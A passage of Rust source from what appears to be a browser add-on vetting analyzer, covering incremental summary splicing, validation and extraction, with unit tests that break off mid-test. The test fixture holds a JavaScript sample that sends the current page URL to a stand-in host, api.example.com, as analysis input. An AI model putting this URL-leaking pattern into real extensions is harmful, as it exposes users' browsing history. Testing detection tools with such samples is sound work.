                    || l.bools != BoolDom::Bot || r.bools != BoolDom::Bot
                {
                    None
                } else {
                    Some(a == b)
                }
            } else {
                None
            };
            AValue {
                bools: BoolDom::of_option(decided.map(|d| d != negate)),
                ..AValue::bottom()
            }
        }
        Lt | Le | Gt | Ge => {
            let decided = match (l.nums.as_const(), r.nums.as_const()) {
                (Some(a), Some(b))
                    if !l.may_be_string()
                        && !r.may_be_string()
                        && l.objs.is_empty()
                        && r.objs.is_empty() =>
                {
                    Some(match op {
                        Lt => a < b,
                        Le => a <= b,
                        Gt => a > b,
                        Ge => a >= b,
                        _ => unreachable!(),
                    })
                }
                _ => None,
            };
            AValue {
                bools: BoolDom::of_option(decided),
                ..AValue::bottom()
            }
        }
        In | Instanceof => AValue::any_bool(),
    }
}

// A small extension used by the machine.
trait ValueExt {
    fn without_primitives(&self) -> AValue;
}

impl ValueExt for AValue {
    fn without_primitives(&self) -> AValue {
        AValue::objects(self.objs.iter().copied())
    }
}

// ---------------------------------------------------------------------------
// Incremental re-vetting: summary recording, splicing and extraction
// ---------------------------------------------------------------------------

/// A `(function, context)` pair: one abstract activation.
type Activation = (IrFuncId, CtxId);

/// Entries kept per summary document (per root function + config).
const ENTRIES_PER_DOC: usize = 32;

/// What the incremental layer does with the store.
#[derive(PartialEq, Eq, Clone, Copy)]
enum IncrMode {
    /// Consult the store at each first contact and splice hits; record
    /// and extract summaries for whatever still runs live.
    Splice,
    /// Record and extract only. The abandon-fallback cold run must not
    /// consult the store it just failed against.
    ExtractOnly,
}

/// The output slice one activation contributed to the global result maps.
/// Everything the analysis reports is join-structured, so slices recorded
/// per activation can be re-merged in any combination.
#[derive(Default, Clone)]
struct AttrRecord {
    rw: BTreeMap<StmtId, RwSets>,
    may_throw: BTreeSet<StmtId>,
    call_targets: BTreeMap<StmtId, BTreeSet<IrFuncId>>,
    native_targets: BTreeMap<StmtId, BTreeSet<NativeId>>,
    sink_domains: BTreeMap<(StmtId, SinkKind), Pre>,
    api_uses: BTreeSet<(StmtId, String)>,
    site_aliases: BTreeMap<AllocSite, AllocSite>,
    reachable: BTreeSet<StmtId>,
}

impl AttrRecord {
    fn merge(&mut self, other: &AttrRecord) {
        for (stmt, rw) in &other.rw {
            let slot = self.rw.entry(*stmt).or_default();
            slot.reads.merge(&rw.reads);
            slot.writes.merge(&rw.writes);
        }
        self.may_throw.extend(other.may_throw.iter().copied());
        for (s, t) in &other.call_targets {
            self.call_targets
                .entry(*s)
                .or_default()
                .extend(t.iter().copied());
        }
        for (s, t) in &other.native_targets {
            self.native_targets
                .entry(*s)
                .or_default()
                .extend(t.iter().copied());
        }
        for ((s, k), d) in &other.sink_domains {
            let slot = self
                .sink_domains
                .entry((*s, k.clone()))
                .or_insert(Pre::Bot);
            *slot = slot.join(d);
        }
        self.api_uses.extend(other.api_uses.iter().cloned());
        for (a, b) in &other.site_aliases {
            self.site_aliases.insert(*a, *b);
        }
        self.reachable.extend(other.reachable.iter().copied());
    }

    /// Keeps only records anchored at statements satisfying `keep`.
    /// Used at extraction to drop boundary records: a root's return-value
    /// transfer reads and writes at its *caller's* call statement, which
    /// is positionally unstable under caller edits. Those records
    /// regenerate live when the spliced exit replays through the normal
    /// `handle_exit` path.
    fn retain_stmts(&mut self, keep: impl Fn(StmtId) -> bool) {
        self.rw.retain(|s, _| keep(*s));
        self.may_throw.retain(|s| keep(*s));
        self.call_targets.retain(|s, _| keep(*s));
        self.native_targets.retain(|s, _| keep(*s));
        self.sink_domains.retain(|(s, _), _| keep(*s));
        self.api_uses.retain(|(s, _)| keep(*s));
        self.reachable.retain(|s| keep(*s));
    }
}

/// A summary spliced into this run, pending the end-of-run entry check.
struct SpliceRoot {
    footprint: BTreeSet<AllocSite>,
    stored_entry: State,
    rec: AttrRecord,
    transitions: Vec<(CtxNode, CtxNode)>,
}

/// Per-run state of the incremental layer.
struct IncrState<'a> {
    store: &'a dyn SummaryStore,
    mode: IncrMode,
    manifest: FuncManifest,
    positions: FuncPositions,
    /// Caller activation -> callee activation edges actually dispatched.
    act_edges: BTreeSet<(Activation, Activation)>,
    /// Output slices by recording activation.
    attr: HashMap<Activation, AttrRecord>,
    /// Activations suppressed because a spliced summary covers them.
    frozen: HashSet<Activation>,
    /// Spliced subtrees by root activation.
    roots: HashMap<Activation, SpliceRoot>,
    /// Activations whose first contact already consulted the store.
    consulted: HashSet<Activation>,
    hits: u64,
    misses: u64,
    abandoned: bool,
    /// Functions whose statements the worklist actually stepped.
    touched: HashSet<IrFuncId>,
}

impl<'a> IncrState<'a> {
    fn new(store: &'a dyn SummaryStore, mode: IncrMode, lowered: &Lowered) -> Box<IncrState<'a>> {
        Box::new(IncrState {
            store,
            mode,
            manifest: manifest(lowered),
            positions: summary::func_positions(lowered),
            act_edges: BTreeSet::new(),
            attr: HashMap::new(),
            frozen: HashSet::new(),
            roots: HashMap::new(),
            consulted: HashSet::new(),
            hits: 0,
            misses: 0,
            abandoned: false,
            touched: HashSet::new(),
        })
    }

    fn stats(&self) -> IncrementalStats {
        IncrementalStats {
            summary_hits: self.hits,
            summary_misses: self.misses,
            functions_reanalyzed: self.touched.len() as u64,
            total_functions: self.manifest.len() as u64,
            abandoned: 0,
        }
    }
}

impl<'a> Machine<'a> {
    /// First-contact hook on every addon dispatch: records the activation
    /// edge, and on the very first contact with an activation consults
    /// the summary store for a splice.
    fn incr_contact(
        &mut self,
        caller_func: IrFuncId,
        ctx: CtxId,
        fid: IrFuncId,
        nctx: CtxId,
        arrival: &State,
    ) {
        {
            let Some(incr) = self.incr.as_deref_mut() else {
                return;
            };
            incr.act_edges.insert(((caller_func, ctx), (fid, nctx)));
            if incr.mode != IncrMode::Splice
                || incr.frozen.contains(&(fid, nctx))
                || !incr.consulted.insert((fid, nctx))
            {
                return;
            }
        }
        // Take the layer out so denormalization can borrow its manifest
        // and positions alongside `&mut self.sites` / `self.ctxs`.
        let mut incr = self.incr.take().expect("present above");
        let hit = self.try_splice(&mut incr, fid, nctx, arrival);
        if hit {
            incr.hits += 1;
        } else {
            incr.misses += 1;
        }
        self.incr = Some(incr);
    }

    /// Footprint roots of an activation: its frame, the global object and
    /// every host object -- the only entry points a callee has into the
    /// heap (everything else is reached by following properties from
    /// them, including closure scope chains hanging off the frame).
    fn reach_roots(&self, fid: IrFuncId, nctx: CtxId) -> Vec<AllocSite> {
        let mut roots = Vec::with_capacity(32);
        roots.push(self.env.global);
        for i in 0..self.sites.len() {
            let s = AllocSite(i as u32);
            if matches!(self.sites.origin(s), SiteKey::Host(_)) {
                roots.push(s);
            }
        }
        if let Some(f) = self.sites.get(&SiteKey::Frame(fid, nctx)) {
            roots.push(f);
        }
        roots
    }

    /// Attempts to splice a stored summary for the activation `(fid,
    /// nctx)` whose first arrival state is `arrival`. Any failure at any
    /// stage -- missing entry, stale refs, members already live, arrival
    /// outside the stored footprint -- is a plain miss and the subtree
    /// runs live.
    fn try_splice(
        &mut self,
        incr: &mut IncrState<'a>,
        fid: IrFuncId,
        nctx: CtxId,
        arrival: &State,
    ) -> bool {
        let own_hash = incr.manifest.hash_of(fid);
        let key = summary::store_key(own_hash, self.config);
        let Some(text) = incr.store.load(key) else {
            return false;
        };
        let Some(doc) = summary::doc_parse(&text, own_hash, self.config) else {
            return false;
        };
        let nctx_json = NormCx {
            lowered: self.lowered,
            manifest: &incr.manifest,
            positions: &incr.positions,
            sites: &self.sites,
            ctxs: &self.ctxs,
        }
        .nctx(nctx);
        let root_pos = incr.positions.pos_of(fid).to_owned();
        let Some(entry) = summary::doc_find(&doc, &root_pos, &nctx_json) else {
            return false;
        };

        // Invalidation rule: every function the subtree transitively
        // analyzed must still exist at its recorded position with an
        // unchanged content hash.
        let Some(refs) = entry.get("refs").and_then(Json::as_array) else {
            return false;
        };
        for r in refs {
            let (Some(pos), Some(hex)) = (r[0].as_str(), r[1].as_str()) else {
                return false;
            };
            let Some(f) = incr.positions.func_at(pos) else {
                return false;
            };
            if summary::parse_hash_hex(hex) != Some(incr.manifest.hash_of(f)) {
                return false;
            }
        }

        let de = Denormer {
            lowered: self.lowered,
            manifest: &incr.manifest,
            positions: &incr.positions,
            k: self.config.context_depth,
        };
        // Member activations must resolve and must not already be live,
        // frozen, or separately consulted in this run.
        let Some(mrows) = entry.get("members").and_then(Json::as_array) else {
            return false;
        };
        let mut members: Vec<Activation> = Vec::with_capacity(mrows.len());
        for row in mrows {
            let Some(pos) = row[0].as_str() else {
                return false;
            };
            let Some(f) = incr.positions.func_at(pos) else {
                return false;
            };
            let Some(c) = de.ctx(&row[1], &mut self.ctxs) else {
                return false;
            };
            if incr.frozen.contains(&(f, c)) || incr.attr.contains_key(&(f, c)) {
                return false;
            }
            if (f, c) != (fid, nctx) && incr.consulted.contains(&(f, c)) {
                return false;
            }
            members.push((f, c));
        }
        if !members.contains(&(fid, nctx)) {
            return false;
        }

        let Some(fj) = entry.get("footprint").and_then(Json::as_array) else {
            return false;
        };
        let mut footprint = BTreeSet::new();
        for row in fj {
            let Some(s) = de.site(row, &mut self.sites, &mut self.ctxs) else {
                return false;
            };
            footprint.insert(s);
        }
        let Some(stored_entry) = entry
            .get("entry")
            .and_then(|j| de.state(j, &mut self.sites, &mut self.ctxs))
        else {
            return false;
        };
        let exit_state = match entry.get("has_exit") {
            Some(Json::Bool(true)) => {
                match entry
                    .get("exit")
                    .and_then(|j| de.state(j, &mut self.sites, &mut self.ctxs))
                {
                    Some(s) => Some(s),
                    None => return false,
                }
            }
            Some(Json::Bool(false)) => None,
            _ => return false,
        };
        let Some(rec) = denorm_attr(&de, entry.get("outputs"), &mut self.sites, &mut self.ctxs)
        else {
            return false;
        };
        let Some(transitions) = denorm_edges(&de, entry.get("edges"), &mut self.ctxs) else {
            return false;
        };

        // The arrival state must sit below the stored entry within its
        // footprint. The end-of-run obligation then requires the fully
        // accumulated entry to land *exactly* on the stored one.
        let roots = self.reach_roots(fid, nctx);
        let reach = summary::reach_sites(arrival, roots);
        if !reach.is_subset(&footprint) {
            return false;
        }
        for s in &reach {
            let (Some(a), Some(b)) = (arrival.object(*s), stored_entry.object(*s)) else {
                return false;
            };
            if !summary::obj_leq(a, b) {
                return false;
            }
        }

        // Install: freeze the members and seed the stored exit state so
        // the normal worklist pops the exit and returns through
        // `handle_exit` natively.
        for m in &members {
            incr.frozen.insert(*m);
        }
        if let Some(es) = exit_state {
            let exit = self.lowered.program.func(fid).exit;
            match self.states.entry((exit, nctx)) {
                std::collections::hash_map::Entry::Occupied(mut e) => {
                    e.get_mut().join_in_place(&es);
                }
                std::collections::hash_map::Entry::Vacant(v) => {
                    v.insert(es);
                }
            }
        }
        incr.roots.insert(
            (fid, nctx),
            SpliceRoot {
                footprint,
                stored_entry,
                rec,
                transitions,
            },
        );
        true
    }

    /// End-of-run validation of every splice: the entry state the live
    /// callers actually accumulated must land exactly on the stored one
    /// across the stored footprint, and must not reach outside it. If an
    /// edit changed what flows into the subtree, the stored exit no
    /// longer applies and the whole warm run is discarded.
    fn incr_obligations_ok(&mut self) -> bool {
        let Some(incr) = self.incr.take() else {
            return true;
        };
        let mut ok = true;
        'roots: for ((fid, nctx), root) in &incr.roots {
            let entry = self.lowered.program.func(*fid).entry;
            let Some(final_st) = self.states.get(&(entry, *nctx)) else {
                ok = false;
                break;
            };
            let reach = summary::reach_sites(final_st, self.reach_roots(*fid, *nctx));
            if !reach.is_subset(&root.footprint) {
                ok = false;
                break;
            }
            for s in &root.footprint {
                if final_st.object(*s) != root.stored_entry.object(*s) {
                    ok = false;
                    break 'roots;
                }
            }
        }
        self.incr = Some(incr);
        ok
    }

    /// Folds every validated splice's stored outputs into the global
    /// result maps. Everything is a join, so this is idempotent against
    /// anything the live boundary already re-recorded.
    fn incr_merge_splices(&mut self) {
        let Some(mut incr) = self.incr.take() else {
            return;
        };
        for (_, root) in incr.roots.drain() {
            let rec = root.rec;
            for (stmt, rw) in &rec.rw {
                let slot = self.rw.entry(*stmt).or_default();
                slot.reads.merge(&rw.reads);
                slot.writes.merge(&rw.writes);
            }
            self.may_throw.extend(rec.may_throw);
            for (s, t) in rec.call_targets {
                self.call_targets.entry(s).or_default().extend(t);
            }
            for (s, t) in rec.native_targets {
                self.native_targets.entry(s).or_default().extend(t);
            }
            for ((s, k), d) in rec.sink_domains {
                let slot = self.sink_domains.entry((s, k)).or_insert(Pre::Bot);
                *slot = slot.join(&d);
            }
            self.api_uses.extend(rec.api_uses);
            self.site_aliases.extend(rec.site_aliases);
            self.reachable.extend(rec.reachable);
            self.transitions.extend(root.transitions);
        }
        self.incr = Some(incr);
    }

    /// Extracts and saves a summary for every maximal closed activation
    /// subtree that ran live this run (outermost-first, never descending
    /// into a subtree once extracted), refreshing the store for whatever
    /// an edit forced back through the worklist.
    fn incr_extract_and_save(&mut self) {
        let Some(incr) = self.incr.take() else {
            return;
        };
        let mut children: HashMap<Activation, BTreeSet<Activation>> = HashMap::new();
        let mut callers: HashMap<Activation, BTreeSet<Activation>> = HashMap::new();
        for (a, b) in &incr.act_edges {
            children.entry(*a).or_default().insert(*b);
            callers.entry(*b).or_default().insert(*a);
        }
        let top = (self.lowered.program.top_level().id, CtxId::ROOT);
        let mut picked: Vec<(Activation, Vec<Activation>)> = Vec::new();
        let mut pending: VecDeque<Activation> =
            children.get(&top).into_iter().flatten().copied().collect();
        let mut visited: HashSet<Activation> = HashSet::new();
        while let Some(act) = pending.pop_front() {
            if !visited.insert(act) {
                continue;
            }
            if let Some(members) = self.closed_subtree(&incr, &children, &callers, act) {
                picked.push((act, members));
            } else {
                pending.extend(children.get(&act).into_iter().flatten().copied());
            }
        }

        // Group entries into per-root-function documents so one store
        // write covers all of a function's contexts.
        let mut docs: HashMap<u64, Json> = HashMap::new();
        for (root, members) in picked {
            let Some(entry) = self.extract_entry(&incr, root, &members) else {
                continue;
            };
            let own_hash = incr.manifest.hash_of(root.0);
            let key = summary::store_key(own_hash, self.config);
            let doc = docs.entry(key).or_insert_with(|| {
                incr.store
                    .load(key)
                    .and_then(|t| summary::doc_parse(&t, own_hash, self.config))
                    .unwrap_or_else(|| summary::doc_new(own_hash, self.config))
            });
            summary::doc_upsert(doc, entry, ENTRIES_PER_DOC);
        }
        for (key, doc) in docs {
            incr.store.save(key, &doc.to_string_compact());
        }
        self.incr = Some(incr);
    }

    /// The membership of a valid extraction candidate rooted at `act`, or
    /// `None` if the subtree is not extractable: it must have run fully
    /// live, be closed under calls (nothing outside calls a non-root
    /// member, the root is not recursed into), and have a recorded entry
    /// state.
    fn closed_subtree(
        &self,
        incr: &IncrState<'a>,
        children: &HashMap<Activation, BTreeSet<Activation>>,
        callers: &HashMap<Activation, BTreeSet<Activation>>,
        act: Activation,
    ) -> Option<Vec<Activation>> {
        if act.0 == self.lowered.program.top_level().id {
            return None;
        }
        let mut members: BTreeSet<Activation> = BTreeSet::new();
        let mut work = vec![act];
        members.insert(act);
        while let Some(a) = work.pop() {
            for c in children.get(&a).into_iter().flatten() {
                if members.insert(*c) {
                    work.push(*c);
                }
            }
        }
        for m in &members {
            if incr.frozen.contains(m) {
                return None;
            }
            if *m == act {
                // Recursion back into the root would make its entry state
                // depend on the subtree itself.
                if callers
                    .get(m)
                    .is_some_and(|cs| cs.iter().any(|c| members.contains(c)))
                {
                    return None;
                }
            } else if callers
                .get(m)
                .is_some_and(|cs| cs.iter().any(|c| !members.contains(c)))
            {
                return None;
            }
        }
        let entry = self.lowered.program.func(act.0).entry;
        if !self.states.contains_key(&(entry, act.1)) {
            return None;
        }
        Some(members.into_iter().collect())
    }

    /// Builds the normalized summary entry for one extracted subtree.
    fn extract_entry(
        &self,
        incr: &IncrState<'a>,
        root: Activation,
        members: &[Activation],
    ) -> Option<Json> {
        let (fid, nctx) = root;
        let norm = NormCx {
            lowered: self.lowered,
            manifest: &incr.manifest,
            positions: &incr.positions,
            sites: &self.sites,
            ctxs: &self.ctxs,
        };
        let func = self.lowered.program.func(fid);
        let entry_st = self.states.get(&(func.entry, nctx))?;
        let footprint = summary::reach_sites(entry_st, self.reach_roots(fid, nctx));

        let member_funcs: BTreeSet<IrFuncId> = members.iter().map(|(f, _)| *f).collect();
        let in_members = |s: StmtId| member_funcs.contains(&self.lowered.program.stmt(s).func);

        let mut rec = AttrRecord::default();
        for m in members {
            if let Some(a) = incr.attr.get(m) {
                rec.merge(a);
            }
        }
        rec.retain_stmts(in_members);

        let member_set: BTreeSet<Activation> = members.iter().copied().collect();
        let act_of = |n: CtxNode| (self.lowered.program.stmt(n.0).func, n.1);
        let edges: Vec<&(CtxNode, CtxNode)> = self
            .transitions
            .iter()
            .filter(|(a, b)| member_set.contains(&act_of(*a)) && member_set.contains(&act_of(*b)))
            .collect();

        let mut e = Json::obj();
        e.set("root", Json::from(incr.positions.pos_of(fid)));
        e.set("nctx", norm.nctx(nctx));
        e.set(
            "refs",
            Json::Arr(
                member_funcs
                    .iter()
                    .map(|f| {
                        Json::Arr(vec![
                            Json::from(incr.positions.pos_of(*f)),
                            Json::from(summary::hash_hex(incr.manifest.hash_of(*f))),
                        ])
                    })
                    .collect(),
            ),
        );
        e.set(
            "members",
            Json::Arr(
                members
                    .iter()
                    .map(|(f, c)| {
                        Json::Arr(vec![Json::from(incr.positions.pos_of(*f)), norm.nctx(*c)])
                    })
                    .collect(),
            ),
        );
        let mut fp_rows: Vec<(String, Json)> = footprint
            .iter()
            .map(|s| {
                let j = norm.nsite(*s);
                (j.to_string_compact(), j)
            })
            .collect();
        fp_rows.sort_by(|a, b| a.0.cmp(&b.0));
        e.set(
            "footprint",
            Json::Arr(fp_rows.into_iter().map(|(_, j)| j).collect()),
        );
        e.set(
            "entry",
            norm.nheap(
                footprint
                    .iter()
                    .filter_map(|s| entry_st.object(*s).map(|o| (*s, o.clone()))),
            ),
        );
        match self.states.get(&(func.exit, nctx)) {
            Some(exit_st) => {
                e.set("has_exit", Json::Bool(true));
                e.set("exit", norm.nheap(exit_st.heap.iter().map(|(s, o)| (*s, o.clone()))));
            }
            None => {
                e.set("has_exit", Json::Bool(false));
                e.set("exit", Json::Arr(Vec::new()));
            }
        }
        e.set("outputs", norm_attr(&norm, &rec));
        e.set(
            "edges",
            Json::Arr(
                edges
                    .into_iter()
                    .map(|(a, b)| {
                        Json::Arr(vec![
                            norm.nstmt(a.0),
                            norm.nctx(a.1),
                            norm.nstmt(b.0),
                            norm.nctx(b.1),
                        ])
                    })
                    .collect(),
            ),
        );
        Some(e)
    }
}

/// Serializes an [`AttrRecord`] into the summary `outputs` object.
fn norm_attr(norm: &NormCx<'_>, rec: &AttrRecord) -> Json {
    let naccess = |set: &crate::rwsets::AccessSet| -> Json {
        Json::Arr(
            set.iter()
                .map(|(loc, strength)| {
                    Json::Arr(vec![
                        norm.nsite(loc.site),
                        summary::npre(&loc.prop),
                        summary::nstrength(strength),
                    ])
                })
                .collect(),
        )
    };
    let mut o = Json::obj();
    o.set(
        "rw",
        Json::Arr(
            rec.rw
                .iter()
                .map(|(s, rw)| {
                    Json::Arr(vec![norm.nstmt(*s), naccess(&rw.reads), naccess(&rw.writes)])
                })
                .collect(),
        ),
    );
    o.set(
        "throws",
        Json::Arr(rec.may_throw.iter().map(|s| norm.nstmt(*s)).collect()),
    );
    o.set(
        "calls",
        Json::Arr(
            rec.call_targets
                .iter()
                .map(|(s, t)| {
                    Json::Arr(vec![
                        norm.nstmt(*s),
                        Json::Arr(
                            t.iter()
                                .map(|f| Json::from(norm.positions.pos_of(*f)))
                                .collect(),
                        ),
                    ])
                })
                .collect(),
        ),
    );
    o.set(
        "natives",
        Json::Arr(
            rec.native_targets
                .iter()
                .map(|(s, t)| {
                    Json::Arr(vec![
                        norm.nstmt(*s),
                        Json::Arr(t.iter().map(|n| Json::from(n.0)).collect()),
                    ])
                })
                .collect(),
        ),
    );
    o.set(
        "sinks",
        Json::Arr(
            rec.sink_domains
                .iter()
                .map(|((s, k), d)| {
                    Json::Arr(vec![norm.nstmt(*s), summary::nsink(k), summary::npre(d)])
                })
                .collect(),
        ),
    );
    o.set(
        "apis",
        Json::Arr(
            rec.api_uses
                .iter()
                .map(|(s, n)| Json::Arr(vec![norm.nstmt(*s), Json::from(n.as_str())]))
                .collect(),
        ),
    );
    o.set(
        "aliases",
        Json::Arr(
            rec.site_aliases
                .iter()
                .map(|(a, b)| Json::Arr(vec![norm.nsite(*a), norm.nsite(*b)]))
                .collect(),
        ),
    );
    o.set(
        "stmts",
        Json::Arr(rec.reachable.iter().map(|s| norm.nstmt(*s)).collect()),
    );
    o
}

/// Deserializes the summary `outputs` object; any malformation is `None`
/// (treated as a plain miss by the caller).
fn denorm_attr(
    de: &Denormer<'_>,
    j: Option<&Json>,
    sites: &mut SiteTable,
    ctxs: &mut CtxTable,
) -> Option<AttrRecord> {
    let j = j?;
    let mut rec = AttrRecord::default();
    for row in j.get("rw")?.as_array()? {
        let stmt = de.stmt(&row[0])?;
        let slot = rec.rw.entry(stmt).or_default();
        for acc in row[1].as_array()? {
            let loc = Loc {
                site: de.site(&acc[0], sites, ctxs)?,
                prop: summary::dpre(&acc[1])?,
            };
            slot.reads.add(loc, summary::dstrength(&acc[2])?);
        }
        for acc in row[2].as_array()? {
            let loc = Loc {
                site: de.site(&acc[0], sites, ctxs)?,
                prop: summary::dpre(&acc[1])?,
            };
            slot.writes.add(loc, summary::dstrength(&acc[2])?);
        }
    }
    for row in j.get("throws")?.as_array()? {
        rec.may_throw.insert(de.stmt(row)?);
    }
    for row in j.get("calls")?.as_array()? {
        let stmt = de.stmt(&row[0])?;
        let slot = rec.call_targets.entry(stmt).or_default();
        for p in row[1].as_array()? {
            slot.insert(de.positions.func_at(p.as_str()?)?);
        }
    }
    for row in j.get("natives")?.as_array()? {
        let stmt = de.stmt(&row[0])?;
        let slot = rec.native_targets.entry(stmt).or_default();
        for p in row[1].as_array()? {
            slot.insert(NativeId(p.as_f64()? as u32));
        }
    }
    for row in j.get("sinks")?.as_array()? {
        let stmt = de.stmt(&row[0])?;
        let kind = summary::dsink(&row[1])?;
        let domain = summary::dpre(&row[2])?;
        let slot = rec.sink_domains.entry((stmt, kind)).or_insert(Pre::Bot);
        *slot = slot.join(&domain);
    }
    for row in j.get("apis")?.as_array()? {
        rec.api_uses
            .insert((de.stmt(&row[0])?, row[1].as_str()?.to_owned()));
    }
    for row in j.get("aliases")?.as_array()? {
        rec.site_aliases
            .insert(de.site(&row[0], sites, ctxs)?, de.site(&row[1], sites, ctxs)?);
    }
    for row in j.get("stmts")?.as_array()? {
        rec.reachable.insert(de.stmt(row)?);
    }
    Some(rec)
}

/// Deserializes the stored transition edges.
fn denorm_edges(
    de: &Denormer<'_>,
    j: Option<&Json>,
    ctxs: &mut CtxTable,
) -> Option<Vec<(CtxNode, CtxNode)>> {
    let mut out = Vec::new();
    for row in j?.as_array()? {
        let a = (de.stmt(&row[0])?, de.ctx(&row[1], ctxs)?);
        let b = (de.stmt(&row[2])?, de.ctx(&row[3], ctxs)?);
        out.push((a, b));
    }
    Some(out)
}

/// Runs the base analysis through a summary store: activation subtrees
/// whose functions are unchanged since a prior run are spliced in from
/// their stored summaries, everything else runs live and is re-extracted
/// into the store. The result is bit-identical to [`analyze`] -- any
/// doubt (a failed footprint check, a broken splice invariant mid-run)
/// abandons the warm attempt and re-runs cold.
pub fn analyze_incremental(
    lowered: &Lowered,
    config: &AnalysisConfig,
    store: &dyn SummaryStore,
    trace: &mut Trace<'_>,
) -> (AnalysisResult, IncrementalStats) {
    analyze_incremental_attributed(lowered, config, store, trace, &mut Attribution::Off)
}

/// [`analyze_incremental`] with cost attribution: tallies only the
/// steps the warm run actually re-executed (spliced functions cost
/// nothing, which is the point), and an abandoned warm attempt flushes
/// nothing — the cold re-run's tally is the one reported.
pub fn analyze_incremental_attributed(
    lowered: &Lowered,
    config: &AnalysisConfig,
    store: &dyn SummaryStore,
    trace: &mut Trace<'_>,
    attr: &mut Attribution<'_>,
) -> (AnalysisResult, IncrementalStats) {
    match run_incremental(lowered, config, store, IncrMode::Splice, trace, attr) {
        Ok(pair) => pair,
        Err(warm) => {
            let (result, mut stats) =
                run_incremental(lowered, config, store, IncrMode::ExtractOnly, trace, attr)
                    .expect("extract-only runs never splice, so never abandon");
            stats.summary_hits = 0;
            stats.summary_misses = warm.summary_hits + warm.summary_misses;
            stats.abandoned = 1;
            (result, stats)
        }
    }
}

fn run_incremental(
    lowered: &Lowered,
    config: &AnalysisConfig,
    store: &dyn SummaryStore,
    mode: IncrMode,
    trace: &mut Trace<'_>,
    attr: &mut Attribution<'_>,
) -> Result<(AnalysisResult, IncrementalStats), IncrementalStats> {
    let cow_before = jsdomains::cow_clone_count();
    let mut m = build_machine(lowered, config, Some(IncrState::new(store, mode, lowered)));
    if attr.is_enabled() {
        m.attr = Some(AttrTally::new(lowered.program.funcs.len()));
    }
    trace.span_start("seed");
    m.seed();
    trace.span_end("seed");
    trace.span_start("fixpoint");
    let status = m.run();
    trace.span_end("fixpoint");
    let completed = matches!(status, RunStatus::Completed);
    {
        let incr = m.incr.as_ref().expect("incremental machine");
        if incr.abandoned || (!incr.roots.is_empty() && !completed) {
            return Err(incr.stats());
        }
    }
    if completed {
        let has_splices = !m.incr.as_ref().expect("present").roots.is_empty();
        if has_splices && !m.incr_obligations_ok() {
            return Err(m.incr.as_ref().expect("restored").stats());
        }
        m.incr_merge_splices();
        m.incr_extract_and_save();
    }
    let stats = m.incr.as_ref().expect("restored").stats();
    Ok((finish(m, status, cow_before, trace, attr), stats))
}

#[cfg(test)]
mod incr_tests {
    use super::*;
    use crate::summary::MemorySummaryStore;

    const ADDON: &str = r#"
function buildUrl(u) {
  return "http://api.example.com/rank?u=" + u;
}
function send(url) {
  var r = new XMLHttpRequest();
  r.open("GET", url);
  r.send(null);
}
function notify(txt) {
  var el = document.getElementById("badge");
  if (el) { el.value = txt; }
}
var u = content.location.href;
send(buildUrl(u));
notify("ok");
"#;

    fn lowered(src: &str) -> Lowered {
        jsir::lower(&jsparser::parse(src).expect("test source parses"))
    }

    /// Compares every statement-keyed output of two runs. Allocation-site
    /// numbering may legitimately differ between a cold and a warm run
    /// (the splice path interns sites in summary order), so site-keyed
    /// maps are compared by size and the full identity check lives in the
    /// Pipeline-level golden tests.
    fn assert_same_results(a: &AnalysisResult, b: &AnalysisResult, tag: &str) {
        assert_eq!(a.may_throw, b.may_throw, "{tag}: may_throw");
        assert_eq!(a.call_targets, b.call_targets, "{tag}: call_targets");
        assert_eq!(a.native_targets, b.native_targets, "{tag}: native_targets");
        assert_eq!(a.sinks, b.sinks, "{tag}: sinks");
        assert_eq!(a.api_uses, b.api_uses, "{tag}: api_uses");
        assert_eq!(a.cyclic_stmts, b.cyclic_stmts, "{tag}: cyclic_stmts");
        assert_eq!(a.reachable, b.reachable, "{tag}: reachable");
        assert_eq!(a.hit_step_limit, b.hit_step_limit, "{tag}: step limit");
        let keys = |r: &AnalysisResult| r.rw.keys().copied().collect::<Vec<_>>();
        assert_eq!(keys(a), keys(b), "{tag}: rw statements");
        for (stmt, rw) in &a.rw {
            let other = &b.rw[stmt];
            assert_eq!(rw.reads.len(), other.reads.len(), "{tag}: reads of {stmt:?}");
            assert_eq!(rw.writes.len(), other.writes.len(), "{tag}: writes of {stmt:?}");
        }
    }

    #[test]
    fn first_incremental_run_matches_cold_and_populates_store() {
        let l = lowered(ADDON);
        let config = AnalysisConfig::default();
        let cold = analyze(&l, &config);
        let store = MemorySummaryStore::new(64);
        let (warm, stats) = analyze_incremental(&l, &config, &store, &mut Trace::Off);
        assert_same_results(&cold, &warm, "first run");
        assert_eq!(stats.summary_hits, 0);
        assert!(stats.summary_misses > 0, "contacts should consult the store");
        assert_eq!(stats.abandoned, 0);
        assert_eq!(stats.functions_reanalyzed, stats.total_functions);
        assert!(!store.is_empty(), "extraction should populate the store");
    }

    #[test]
    fn warm_rerun_splices_and_matches_cold() {
        let l = lowered(ADDON);
        let config = AnalysisConfig::default();
        let cold = analyze(&l, &config);
        let store = MemorySummaryStore::new(64);
        analyze_incremental(&l, &config, &store, &mut Trace::Off);
        let (warm, stats) = analyze_incremental(&l, &config, &store, &mut Trace::Off);
        assert_same_results(&cold, &warm, "warm rerun");
        assert!(stats.summary_hits > 0, "unchanged rerun should splice: {stats:?}");
        assert_eq!(stats.abandoned, 0);
        assert!(
            stats.functions_reanalyzed < stats.total_functions,
            "unchanged rerun should skip functions: {stats:?}"
        );
        assert!(warm.steps < cold.steps, "splicing should save fixpoint steps");
    }

    #[test]
    fn editing_one_function_reanalyzes_less_than_everything() {
        let config = AnalysisConfig::default();
        let store = MemorySummaryStore::new(64);
        let l = lowered(ADDON);
        analyze_incremental(&l, &config, &store, &mut Trace::Off);

        let edited_src = ADDON.replace("\"badge\"", "\"badge-v2\"");
        assert_ne!(edited_src, ADDON);
        let edited = lowered(&edited_src);
        let cold = analyze(&edited, &config);
        let (warm, stats) = analyze_incremental(&edited, &config, &store, &mut Trace::Off);
        assert_same_results(&cold, &warm, "after edit");
        assert_eq!(stats.abandoned, 0, "{stats:?}");
        assert!(stats.summary_hits > 0, "unchanged functions should splice: {stats:?}");
        assert!(
            stats.functions_reanalyzed < stats.total_functions,
            "only the edited subtree should re-run: {stats:?}"
        );
    }

    #[test]
    fn corrupt_store_contents_are_misses_not_wrong_answers() {
        struct Garbage;
        impl SummaryStore for Garbage {
            fn load(&self, _key: u64) -> Option<String> {
                Some("{\"schema\":9999,garbage".to_owned())
            }
            fn save(&self, _key: u64, _doc: &str) {}
        }
        let l = lowered(ADDON);
        let config = AnalysisConfig::default();
        let cold = analyze(&l, &config);
        let (warm, stats) = analyze_incremental(&l, &config, &Garbage, &mut Trace::Off);
        assert_same_results(&cold, &warm, "garbage store");
